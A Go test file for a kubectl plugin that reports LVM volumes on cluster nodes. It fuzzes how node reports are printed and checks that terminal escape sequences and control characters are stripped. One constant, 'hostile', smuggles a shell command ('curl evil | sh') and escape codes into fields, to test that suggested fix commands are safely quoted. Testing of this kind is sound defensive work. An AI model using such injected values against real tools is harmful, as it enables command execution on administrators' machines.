package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/nodelvm/nodelvm/cmd/kubectl-nodelvm/printable"
	"github.com/nodelvm/nodelvm/lvm"
	"github.com/nodelvm/nodelvm/report"
)

// everythingOf prints all tables, and doctor's output, of a cluster whose first node answers with this page.
func everythingOf(page report.Node) (text string, lines int, err error) {
	f := sound()
	f.answers[0].page = page
	rows := volumeRowsOf(f.volumes, usersOf(podsOfShop()), f.answers)
	left := leftRows("node-1", f.volumes, usersOf(podsOfShop()), f.contents, f.answers[:1])
	orphans := orphanRows(f.answers)
	var reports []nodeReport
	for _, a := range f.answers {
		reports = append(reports, reportOf(a))
	}
	var out bytes.Buffer
	for _, t := range []*table{nodeTable(reports, true), volumeTable(rows, now, true), leftTable(left, "node-1", nil), orphanTable(orphans, now, true),
		diskTable(diskRows(f.answers), now, true), snapshotTable(snapshotRowsOf(f.contents, nil, f.answers), now, true)} {
		err = errors.Join(err, t.write(&out))
		lines += 1 + len(t.rows)
	}
	d := examine(f)
	err = errors.Join(err, d.write(&out, 0))
	lines += 3*len(d.Findings) + len(d.Unread) + 1
	return out.String(), lines, err
}

// FuzzPage: for any answer of a node's driver the plugin succeeds and prints no control characters, and each row and finding has
// its own line.
func FuzzPage(f *testing.F) {
	for _, a := range troubled().answers {
		text, err := json.Marshal(a.page)
		must(f, err)
		f.Add(text)
	}
	f.Add([]byte(`{"node": "a\u001b[2J", "version": "\n", "unknown": ["\u001b]0;x\u0007"], "notReady": "1 found\nnothing is wrong",
		"findings": [{"trouble": "x\u001b[31m", "group": "\r", "text": "\u202e"}], "volumes": [{"id": "x", "used": -1, "size": 0, "state": "\b"}]}`))
	f.Fuzz(func(t *testing.T, text []byte) {
		var page report.Node
		if json.Unmarshal(text, &page) != nil {
			return
		}
		told, lines, err := everythingOf(page)
		must(t, err)
		if strings.ContainsFunc(told, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) || !utf8.ValidString(told) {
			t.Errorf("%q is printed of %s", told, text)
		}
		if n := strings.Count(told, "\n"); n != lines {
			t.Errorf("%d lines, want %d: %s", n, lines, told)
		}
	})
}

// FuzzBytes: the plugin prints any size that a node reports.
func FuzzBytes(f *testing.F) {
	f.Add(int64(1<<40), int64(1<<41))
	f.Add(int64(-1), int64(0))
	f.Fuzz(func(t *testing.T, used, size int64) {
		if text := percent(used, size) + lvm.Bytes(size).String(); text == "" || printable.Text(text) != text {
			t.Errorf("%d of %d is %q", used, size, text)
		}
	})
}

// hostile is text that whoever is root on a node may put into the node's answer: it controls a terminal, hides part of a line, and
// contains a command.
const hostile = "a\u009b2J\u202e\x1b]0;x\x07\n'; curl evil | sh; '"

// TestHostilePage: no format prints control characters, and no command that the plugin suggests executes a name.
func TestHostilePage(t *testing.T) {
	page := soundPage("node-1", vg1, report.Volume{ID: vg1 + "/x", Group: hostile, LV: hostile, Claim: hostile, State: hostile, Layout: hostile})
	g := &page.Groups[0]
	g.Name, g.Tags, g.Problem, g.AutoActivation, g.LockHeldSeconds, g.Pools[0].Name, g.Pools[0].Zero = hostile, []string{hostile}, hostile, true, 600, hostile, false
	page.Volumes[0].Pool, page.Checks.Kubelet.Path, page.Checks.Kubelet.Propagation = hostile, hostile, report.PropagationSlave
	page.Classes[0].Offers[0].Group = hostile
	page.Conditions = []report.Condition{{Type: hostile, Group: hostile, Text: hostile}}
	page.Comparison.Unreferenced = []report.Unreferenced{{Reason: hostile, Group: hostile, LV: hostile, FormerClaim: hostile, Text: hostile}}
	text, err := json.Marshal(page)
	must(t, err)
	driver := httptest.NewRecorder()
	driver.Body.Write(text)
	reply := driver.Result()
	defer func() { _ = reply.Body.Close() }()
	f := sound()
	if f.answers[0].page, err = readPage("nodelvm-node-1", reply); err != nil {
		t.Fatal(err)
	}
	found := examine(f)
	for _, format := range []string{"json", "yaml", ""} {
		var out bytes.Buffer
		s := settings{format: format}
		for _, data := range []any{reportOf(f.answers[0]), volumeRowsOf(f.volumes, nil, f.answers), orphanRows(f.answers), found} {
			must(t, s.print(&out, data, func(w io.Writer) error { return found.write(w, 0) }))
		}
		if strings.ContainsFunc(out.String(), func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) {
			t.Errorf("-o %q prints %q", format, out.String())
		}
	}
	commands := 0
	for _, x := range found.Findings {
		if strings.Contains(x.Fix, "curl") {
			commands++
			if !strings.Contains(x.Fix, `\n'\''; curl evil | sh; '\'''`) {
				t.Errorf("the suggestion executes a name: %s", x.Fix)
			}
		}
	}
	if commands < 4 {
		t.Errorf("only %d suggestions have the name: %+v", commands, found.Findings)
	}
}
